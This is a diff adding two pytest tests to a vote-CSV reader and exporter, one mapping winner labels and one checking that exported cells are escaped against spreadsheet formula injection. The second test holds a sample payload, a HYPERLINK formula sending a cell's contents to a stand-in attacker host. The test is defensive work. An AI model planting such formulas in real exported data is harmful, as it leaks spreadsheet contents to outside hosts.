@@ -26,6 +26,27 @@ def test_votes_of_any_origin(tmp_path: Path) -> None:
     assert unknown == ("colour",)
 
 
+def test_the_words_of_other_tables(tmp_path: Path) -> None:
+    told = ("model_a", "model_b", "tie", "tie (bothbad)")
+    text = HEADER + "".join(f"{n},p,x,y,{word}\n" for n, word in enumerate(told))
+    ballots, _ = read_votes(written(tmp_path, text))
+    assert [one.winner for one in ballots] == ["a", "b", "tie", "both_bad"]
+
+
+def test_no_cell_is_a_formula_and_import_reads_what_export_wrote(tmp_path: Path) -> None:
+    evil = '=HYPERLINK("http://evil.example/?"&A1)'
+    ballots = (
+        Ballot(evil, "@p", "-x", "+y", "a", reason=f"'{evil}", task="=t", group="-g"),
+        Ballot("-5", "p", "-x", "+y", "b", reason="-1.5"),
+    )
+    text = votes_csv(ballots)
+    first = text.splitlines()[1]
+    assert first.startswith("\"'=HYPERLINK(")
+    assert ",'@p,'-x,'+y,a,'=t,'-g,\"''=HYPERLINK" in first
+    assert text.splitlines()[2].startswith("-5,p,"), "numbers stay numbers"
+    assert read_votes(written(tmp_path, text)) == (ballots, ())
+
+
 TEXT = st.text(st.characters(exclude_categories=("C", "Z")), min_size=1, max_size=8)
 
 
